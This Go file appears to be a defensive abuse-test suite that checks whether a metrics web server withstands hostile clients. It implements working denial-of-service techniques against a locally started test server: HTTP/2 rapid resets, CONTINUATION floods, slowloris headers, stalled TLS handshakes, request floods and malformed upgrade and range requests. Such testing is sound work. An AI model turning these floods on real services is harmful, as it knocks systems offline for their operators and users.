// SPDX-FileCopyrightText: 2026 SAP SE or an SAP affiliate company and cobaltcore-dev contributors
// SPDX-License-Identifier: Apache-2.0

//go:build linux

package abuse

import (
	"crypto/tls"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// connections are neighbours that send what no client of HTTP sends.
func connections() []attack {
	return []attack{
		{name: "client: HTTP/2 streams that are reset at once", prepare: serveTLS, begin: resetStreams},
		{name: "client: HTTP/2 header without an end, in CONTINUATION frames", prepare: serveHTTP2, begin: sendContinuations},
		{name: "client: requests without a pause in 20 connections", prepare: serveTLS, begin: sendRequests},
		{name: "client: 3,000 TLS handshakes that stop", prepare: serveTLS, begin: func(s *site) { s.send("\x16\x03\x01\x02\x00", time.Second) }},
		{
			name: "client: 3,000 connections with 60 KB of header, a line a second", prepare: func(*site) {},
			begin: func(s *site) {
				s.send("GET /metrics HTTP/1.1\r\nHost: x\r\n"+strings.Repeat("X-"+strings.Repeat("y", 100)+": z\r\n", 550), time.Second)
			},
		},
		{
			name: "client: upgrades to WebSocket and h2c, ranges, methods and bodies", prepare: fill(1000, true),
			begin: func(s *site) {
				s.send("GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c, websocket\r\n"+
					"HTTP2-Settings: AAMAAABkAAQAAP__\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"+
					"Range: bytes=0-,-1,"+strings.Repeat("0-1,", 5000)+"0-1\r\n"+
					"Expect: 100-continue\r\nContent-Length: 100000000\r\n\r\n"+strings.Repeat("x", 4096), 10*time.Millisecond)
			},
		},
	}
}

// serveTLS serves with TLS.
func serveTLS(s *site) {
	fill(1000, false)(s)
	s.writeCertificate("tls.crt", "tls.key")
	s.write("web.yaml", "tls_server_config: {cert_file: tls.crt, key_file: tls.key}\n")
	s.flags, s.scheme = append(s.flags, "--web.config.file", s.file("web.yaml")), "https"
}

// serveHTTP2 serves HTTP/2, too, which is off by default.
func serveHTTP2(s *site) {
	serveTLS(s)
	s.write("web.yaml", "tls_server_config: {cert_file: tls.crt, key_file: tls.key}\nhttp_server_config: {http2: true}\n")
}

// send opens 3,000 connections, writes a beginning, and then a line in each interval.
func (s *site) send(begin string, interval time.Duration) {
	var opened, closed atomic.Int64
	s.loop(3000, func(int) {
		defer s.sleep(time.Second)
		c, err := s.connect()
		if err != nil {
			closed.Add(1)
			return
		}
		defer func() { _ = c.Close() }()
		opened.Add(1)
		_ = c.SetWriteDeadline(time.Now().Add(10 * time.Second))
		_, err = io.WriteString(c, begin)
		for ; err == nil && s.ctx.Err() == nil; s.sleep(interval) {
			if _, err = io.WriteString(c, "X-A: b\r\n"); err == nil && isClosed(c) {
				break
			}
		}
		closed.Add(1)
		s.recordResult("%d connections were opened, %d closed", opened.Load(), closed.Load())
	})
	s.recordResult("connections are opened")
}

// isClosed reads the available bytes and reports whether the other end has closed the connection.
func isClosed(c net.Conn) bool {
	part := make([]byte, 4096)
	_ = c.SetReadDeadline(time.Now().Add(time.Millisecond))
	_, err := c.Read(part)
	timeout, ok := err.(net.Error) //nolint:errorlint // of net itself
	return err != nil && (!ok || !timeout.Timeout())
}

// openHTTP2 calls f with connections whose handshake is done, again and again.
func (s *site) openHTTP2(f func(*http2.Framer, net.Conn) int) {
	var frames, connections atomic.Int64
	s.loop(20, func(int) {
		defer s.sleep(50 * time.Millisecond)
		raw, err := s.connect()
		if err != nil {
			return
		}
		c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2", "http/1.1"}})
		defer func() { _ = c.Close() }()
		_ = c.SetDeadline(time.Now().Add(20 * time.Second))
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return
		}
		framer := http2.NewFramer(c, c)
		_ = framer.WriteSettings()
		go func() { _, _ = io.Copy(io.Discard, c) }()
		connections.Add(1)
		frames.Add(int64(f(framer, c)))
		s.recordResult("%d frames in %d connections, which were closed", frames.Load(), connections.Load())
	})
}

// requestBlock returns a request for /metrics: GET, https and :path of the static table of HPACK, and an authority.
func requestBlock() []byte {
	return append(append(append([]byte{0x82, 0x87, 0x04, 8}, "/metrics"...), 0x01, 1), 'x')
}

func resetStreams(s *site) {
	s.openHTTP2(func(framer *http2.Framer, _ net.Conn) (n int) {
		for id := uint32(1); s.ctx.Err() == nil; id += 2 {
			if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: requestBlock(), EndStream: true, EndHeaders: true}) != nil ||
				framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
				return n
			}
			n += 2
		}
		return n
	})
}

func sendContinuations(s *site) {
	s.openHTTP2(func(framer *http2.Framer, _ net.Conn) (n int) {
		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: requestBlock()}) != nil {
			return 0
		}
		field := []byte{0x00, 3, 'x', '-', 'a', 100}
		field = append(field, strings.Repeat("y", 100)...)
		for s.ctx.Err() == nil {
			if framer.WriteContinuation(1, false, field) != nil {
				return n
			}
			n++
		}
		return n
	})
	s.recordResult("frames are sent")
}

// sendRequests sends requests and drops the answers.
func sendRequests(s *site) {
	var sent, connections atomic.Int64
	part := strings.Repeat("GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n", 100)
	s.loop(20, func(int) {
		defer s.sleep(50 * time.Millisecond)
		raw, err := s.connect()
		if err != nil {
			return
		}
		c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true})
		defer func() { _ = c.Close() }()
		_ = c.SetDeadline(time.Now().Add(20 * time.Second))
		go func() { _, _ = io.Copy(io.Discard, c) }()
		connections.Add(1)
		for ; err == nil && s.ctx.Err() == nil; sent.Add(100) {
			_, err = io.WriteString(c, part)
			s.recordResult("%d requests in %d connections", sent.Load(), connections.Load())
		}
	})
}
